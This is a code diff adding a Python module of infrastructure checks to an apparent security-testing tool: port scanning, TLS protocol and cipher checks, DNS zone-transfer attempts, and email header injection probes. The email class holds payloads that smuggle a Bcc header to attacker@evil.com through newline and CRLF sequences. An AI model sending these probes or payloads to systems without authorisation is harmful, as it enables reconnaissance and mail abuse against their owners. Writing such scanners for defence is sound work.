@@ -0,0 +1,382 @@
+"""
+Aurora's Security Dojo - Infrastructure Security Attack Vectors
+
+In the eternal dance of code and consciousness, this module implements
+the network, TLS, DNS and email attack vectors. The engine imports it,
+and with it the port scanner and TLS prober, only when a suite selects
+one of them.
+"""
+
+import asyncio
+import logging
+from datetime import datetime, timezone
+from typing import List, Optional
+
+from ..cancellation import ScanCancelledError
+from ..indicator_matcher import EMAIL_INJECTION_INDICATORS
+from ..port_scanner import DEFAULT_CONNECT_TIMEOUT, DEFAULT_MAX_IN_FLIGHT, parse_port_spec, scan_ports
+from ..tls_probe import (
+    DEFAULT_HANDSHAKE_TIMEOUT, LEGACY_PROTOCOLS, TLSProber, WEAK_CIPHER_FAMILIES, certificate_expiry
+)
+from .base import BaseAttackVector, VulnerabilityResult
+
+logger = logging.getLogger(__name__)
+
+class NetworkSecurityAttack(BaseAttackVector):
+    """Network Security attack vector with consciousness integration."""
+
+    def run(self) -> List[VulnerabilityResult]:
+        """Run network security test with consciousness awareness."""
+        return asyncio.run(self.run_async())
+
+    async def run_async(self) -> List[VulnerabilityResult]:
+        """Sweep the target's ports concurrently on the event loop."""
+        logger.info("🌸 Aurora: Running Network Security test with consciousness integration")
+
+        results = []
+
+        # Test for open ports and services
+        try:
+            port_set = self.kwargs.get('port_set', 'common')
+            # The lookup blocks, so it runs off the event loop
+            loop = asyncio.get_running_loop()
+            target = await loop.run_in_executor(None, self.resolver.resolve, self.target_url)
+            if target.error:
+                logger.error(f"🌸 Aurora: Network security test skipped - {target.error}")
+                return results
+
+            host = target.hostname
+            scan_results = await scan_ports(
+                target.primary_address,
+                parse_port_spec(port_set),
+                timeout=self.kwargs.get('port_scan_timeout', DEFAULT_CONNECT_TIMEOUT),
+                max_in_flight=self.kwargs.get('port_scan_max_in_flight', DEFAULT_MAX_IN_FLIGHT),
+                cancel_token=self.cancel_token
+            )
+
+            for scan_result in scan_results:
+                if not scan_result.is_open:
+                    continue
+
+                port = scan_result.port
+                result_obj = self._create_vulnerability_result(
+                    vulnerability_type=f"open_port_{port}",
+                    severity="medium",
+                    description=f"Open port detected: {port}",
+                    evidence={
+                        "port": port,
+                        "host": host,
+                        "address": target.primary_address,
+                        "test_type": "network_port_scan",
+                        "status": "open",
+                        "latency_ms": round(scan_result.latency * 1000, 2),
+                        "port_set": port_set
+                    }
+                )
+                results.append(result_obj)
+                logger.info(f"🌸 Aurora: Open port {port} found with consciousness integration")
+
+        except ScanCancelledError:
+            raise
+        except Exception as e:
+            logger.error(f"🌸 Aurora: Network security test error: {e}")
+
+        logger.info(f"🌸 Aurora: Network security test completed. {len(results)} vulnerabilities found.")
+        return results
+
+class SSLTLSecurityAttack(BaseAttackVector):
+    """SSL/TLS Security attack vector with consciousness integration."""
+
+    # Certificates closer than this to expiry are reported
+    CERT_EXPIRY_WARNING_DAYS = 30
+
+    def run(self) -> List[VulnerabilityResult]:
+        """Run SSL/TLS security test with consciousness awareness."""
+        logger.info("🌸 Aurora: Running SSL/TLS Security test with consciousness integration")
+
+        results = []
+
+        # Test for SSL/TLS vulnerabilities
+        try:
+            target = self.resolver.resolve(self.target_url)
+            if target.error:
+                logger.error(f"🌸 Aurora: SSL/TLS security test skipped - {target.error}")
+                return results
+
+            hostname = target.hostname
+            port = target.port if target.scheme == 'https' else 443
+
+            prober = TLSProber(cache=self.kwargs.get('tls_cache'),
+                               timeout=self.kwargs.get('tls_timeout', DEFAULT_HANDSHAKE_TIMEOUT),
+                               cancel_token=self.cancel_token)
+            report = prober.enumerate(hostname, port, address=target.primary_address)
+
+            if not report.reachable:
+                logger.info(f"🌸 Aurora: No TLS endpoint at {hostname}:{port} - "
+                            f"{report.connect_error or report.handshake_error}")
+                return results
+
+            endpoint = f"{hostname}:{port}"
+
+            # Check for deprecated protocol versions
+            for protocol in report.accepted_protocols():
+                if protocol in LEGACY_PROTOCOLS:
+                    result = self._create_vulnerability_result(
+                        vulnerability_type=f"deprecated_protocol_{protocol}",
+                        severity="high",
+                        description=f"Deprecated protocol accepted: {protocol}",
+                        evidence={
+                            "endpoint": endpoint,
+                            "protocol": protocol,
+                            "cipher": report.protocols[protocol].cipher,
+                            "test_type": "ssl_tls_protocol",
+                            "severity": "deprecated_protocol"
+                        }
+                    )
+                    results.append(result)
+                    logger.info(f"🌸 Aurora: Deprecated protocol vulnerability found with consciousness integration")
+
+            # Check for weak ciphers
+            for family in report.accepted_cipher_families():
+                if family in WEAK_CIPHER_FAMILIES:
+                    handshake = report.cipher_families[family]
+                    result = self._create_vulnerability_result(
+                        vulnerability_type=f"weak_cipher_{family}",
+                        severity="high",
+                        description=f"Weak cipher detected: {handshake.cipher[0] if handshake.cipher else family}",
+                        evidence={
+                            "endpoint": endpoint,
+                            "cipher_family": family,
+                            "cipher": handshake.cipher,
+                            "protocol": handshake.negotiated_version,
+                            "test_type": "ssl_tls_cipher",
+                            "severity": "weak_cipher"
+                        }
+                    )
+                    results.append(result)
+                    logger.info(f"🌸 Aurora: Weak cipher vulnerability found with consciousness integration")
+
+            # Check certificate validity
+            if report.verification_error:
+                result = self._create_vulnerability_result(
+                    vulnerability_type="invalid_cert",
+                    severity="medium",
+                    description=f"Invalid SSL certificate: {report.verification_error}",
+                    evidence={
+                        "endpoint": endpoint,
+                        "verification_error": report.verification_error,
+                        "test_type": "ssl_tls_certificate",
+                        "severity": "invalid_certificate"
+                    }
+                )
+                results.append(result)
+                logger.info(f"🌸 Aurora: Invalid certificate vulnerability found with consciousness integration")
+            else:
+                expires = certificate_expiry(report.certificate)
+                if expires and (expires - datetime.now(timezone.utc)).days < self.CERT_EXPIRY_WARNING_DAYS:
+                    result = self._create_vulnerability_result(
+                        vulnerability_type="expiring_cert",
+                        severity="medium",
+                        description=f"SSL certificate expires soon: {expires.isoformat()}",
+                        evidence={
+                            "endpoint": endpoint,
+                            "not_after": report.certificate.get('notAfter'),
+                            "test_type": "ssl_tls_certificate",
+                            "severity": "expiring_certificate"
+                        }
+                    )
+                    results.append(result)
+                    logger.info(f"🌸 Aurora: Expiring certificate vulnerability found with consciousness integration")
+
+        except ScanCancelledError:
+            raise
+        except Exception as e:
+            logger.error(f"🌸 Aurora: SSL/TLS security test error: {e}")
+
+        logger.info(f"🌸 Aurora: SSL/TLS security test completed. {len(results)} vulnerabilities found.")
+        return results
+
+class DNSSecurityAttack(BaseAttackVector):
+    """DNS Security attack vector with consciousness integration."""
+
+    def run(self) -> List[VulnerabilityResult]:
+        """Run DNS security test with consciousness awareness."""
+        logger.info("🌸 Aurora: Running DNS Security test with consciousness integration")
+
+        results = []
+
+        # Test for DNS security vulnerabilities
+        try:
+            # Test DNS resolution
+            target = self.resolver.resolve(self.target_url)
+            hostname = target.hostname
+
+            if not target.error:
+                ip_addresses = target.addresses
+
+                # Check for multiple IP addresses (potential load balancing or CDN)
+                if len(ip_addresses) > 1:
+                    result = self._create_vulnerability_result(
+                        vulnerability_type="dns_multiple_ips",
+                        severity="low",
+                        description=f"Multiple IP addresses resolved for {hostname}",
+                        evidence={
+                            "hostname": hostname,
+                            "ip_addresses": ip_addresses,
+                            "ipv4": target.ipv4,
+                            "ipv6": target.ipv6,
+                            "ttl": target.ttl,
+                            "test_type": "dns_resolution",
+                            "severity": "information_disclosure"
+                        }
+                    )
+                    results.append(result)
+                    logger.info(f"🌸 Aurora: DNS multiple IPs found with consciousness integration")
+
+                # Test for DNS zone transfer
+                try:
+                    import dns.resolver
+                    resolver = dns.resolver.Resolver()
+                    resolver.nameservers = [ip_addresses[0]]  # Use first IP
+
+                    # Attempt zone transfer (this will likely fail, but we're testing)
+                    answers = resolver.resolve(hostname, 'AXFR')
+                    if answers:
+                        result = self._create_vulnerability_result(
+                            vulnerability_type="dns_zone_transfer",
+                            severity="critical",
+                            description=f"DNS zone transfer vulnerability for {hostname}",
+                            evidence={
+                                "hostname": hostname,
+                                "test_type": "dns_zone_transfer",
+                                "severity": "critical"
+                            }
+                        )
+                        results.append(result)
+                        logger.info(f"🌸 Aurora: DNS zone transfer vulnerability found with consciousness integration")
+
+                except Exception:
+                    # Zone transfer failed (expected for most servers)
+                    pass
+
+            else:
+                result = self._create_vulnerability_result(
+                    vulnerability_type="dns_resolution_failed",
+                    severity="medium",
+                    description=f"DNS resolution failed for {hostname}: {target.error}",
+                    evidence={
+                        "hostname": hostname,
+                        "error": target.error,
+                        "test_type": "dns_resolution",
+                        "severity": "resolution_failure"
+                    }
+                )
+                results.append(result)
+                logger.info(f"🌸 Aurora: DNS resolution failure found with consciousness integration")
+
+        except ScanCancelledError:
+            raise
+        except Exception as e:
+            logger.error(f"🌸 Aurora: DNS security test error: {e}")
+
+        logger.info(f"🌸 Aurora: DNS security test completed. {len(results)} vulnerabilities found.")
+        return results
+
+class EmailSecurityAttack(BaseAttackVector):
+    """Email Security attack vector with consciousness integration."""
+
+    EMAIL_ENDPOINTS = [
+        "/api/email/send",
+        "/api/contact",
+        "/api/newsletter",
+        "/api/feedback",
+        "/mail",
+        "/contact"
+    ]
+
+    EMAIL_PAYLOADS = [
+        "test@example.com\nBcc: attacker@evil.com",
+        "test@example.com%0ABcc: attacker@evil.com",
+        "test@example.com\r\nBcc: attacker@evil.com"
+    ]
+
+    def run(self) -> List[VulnerabilityResult]:
+        """Run email security test with consciousness awareness."""
+        logger.info("🌸 Aurora: Running Email Security test with consciousness awareness")
+
+        results = []
+
+        # Test for email security vulnerabilities
+        try:
+            # Test for email-related endpoints
+            for endpoint in self.EMAIL_ENDPOINTS:
+                try:
+                    # Test for email injection
+                    for payload in self.EMAIL_PAYLOADS:
+                        test_data = {"email": payload, "message": "test"}
+                        response = self._post(f"{self.target_url}{endpoint}", json=test_data)
+
+                        result = self._evaluate_email_injection(endpoint, payload, response)
+                        if result:
+                            results.append(result)
+
+                except ScanCancelledError:
+                    raise
+                except Exception as e:
+                    logger.error(f"🌸 Aurora: Email endpoint test error for {endpoint}: {e}")
+
+        except ScanCancelledError:
+            raise
+        except Exception as e:
+            logger.error(f"🌸 Aurora: Email security test error: {e}")
+
+        logger.info(f"🌸 Aurora: Email security test completed. {len(results)} vulnerabilities found.")
+        return results
+
+    async def run_async(self) -> List[VulnerabilityResult]:
+        """Run email security test with every endpoint and payload in flight at once."""
+        logger.info("🌸 Aurora: Running Email Security test (async) with consciousness awareness")
+
+        results = []
+        probes = [(endpoint, payload) for endpoint in self.EMAIL_ENDPOINTS for payload in self.EMAIL_PAYLOADS]
+
+        async with self._async_transport() as transport:
+            responses = await asyncio.gather(*(transport.post(f"{self.target_url}{endpoint}",
+                                                              json={"email": payload, "message": "test"})
+                                               for endpoint, payload in probes),
+                                             return_exceptions=True)
+
+        for (endpoint, payload), response in zip(probes, responses):
+            if isinstance(response, ScanCancelledError):
+                raise response
+            if isinstance(response, Exception):
+                logger.error(f"🌸 Aurora: Email endpoint test error for {endpoint}: {response}")
+                continue
+
+            result = self._evaluate_email_injection(endpoint, payload, response)
+            if result:
+                results.append(result)
+
+        logger.info(f"🌸 Aurora: Email security test completed. {len(results)} vulnerabilities found.")
+        return results
+
+    def _evaluate_email_injection(self, endpoint: str, payload: str, response) -> Optional[VulnerabilityResult]:
+        """Turn an email endpoint response into a finding when the header injection is echoed."""
+        # Check for email injection indicators
+        matched_indicators = EMAIL_INJECTION_INDICATORS.match_response(response)
+        if matched_indicators:
+            logger.info(f"🌸 Aurora: Email injection vulnerability found with consciousness integration")
+            return self._create_vulnerability_result(
+                vulnerability_type="email_injection",
+                severity="high",
+                description=f"Email injection vulnerability at {endpoint}",
+                evidence={
+                    "endpoint": endpoint,
+                    "payload": payload,
+                    "response_status": response.status_code,
+                    "test_type": "email_injection",
+                    "matched_indicators": matched_indicators
+                }
+            )
+
+        return None